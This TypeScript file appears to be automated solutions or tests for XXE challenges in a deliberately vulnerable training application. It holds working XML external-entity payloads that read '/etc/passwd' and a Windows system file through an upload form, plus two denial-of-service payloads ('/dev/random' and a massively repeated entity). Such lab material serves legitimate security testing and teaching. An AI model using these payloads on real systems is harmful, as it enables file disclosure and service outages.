import type { Attack, HttpResponse, Tools } from '#lab'

/** Sends a complaint as an XML file. */
function complain({ http }: Tools, xml: string): Promise<HttpResponse> {
  const form = new FormData()
  form.append('file', new File([xml], 'complaint.xml', { type: 'text/xml' }))
  return http.post('/file-upload', form)
}

function including(address: string): string {
  return `<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "${address}">]><foo>&xxe;</foo>`
}

function disclose(address: string, words: string): Attack['run'] {
  return async (tools) => {
    const answer = await complain(tools, including(address))
    tools.expect(answer.text.includes(words), 'the file stays where it is')
  }
}

function occupy(xml: string): Attack['run'] {
  return async (tools) => {
    const answer = await complain(tools, xml)
    tools.expect(answer.status === 503, `the complaint was answered with ${answer.status}`)
  }
}

/** A single long entity, used thousands of times. */
const GROWING = `<?xml version="1.0"?><!DOCTYPE j [<!ENTITY a "${'dos'.repeat(2_500)}">]><j>${'&a;'.repeat(4_500)}</j>`

export const attacks: Attack[] = [
  {
    challenge: 'xxeFileDisclosureChallenge',
    name: 'a complaint that includes the file of users',
    run: disclose('file:///etc/passwd', 'root:x:0:0'),
  },
  {
    challenge: 'xxeFileDisclosureChallenge',
    name: 'one that includes the settings of a Windows machine, by its plain path',
    run: disclose('C:/Windows/system.ini', '16-bit app support'),
  },
  {
    challenge: 'xxeDosChallenge',
    name: 'a file that never ends',
    run: occupy(including('file:///dev/random')),
  },
  {
    challenge: 'xxeDosChallenge',
    name: 'an entity that grows and grows',
    run: occupy(GROWING),
  },
]
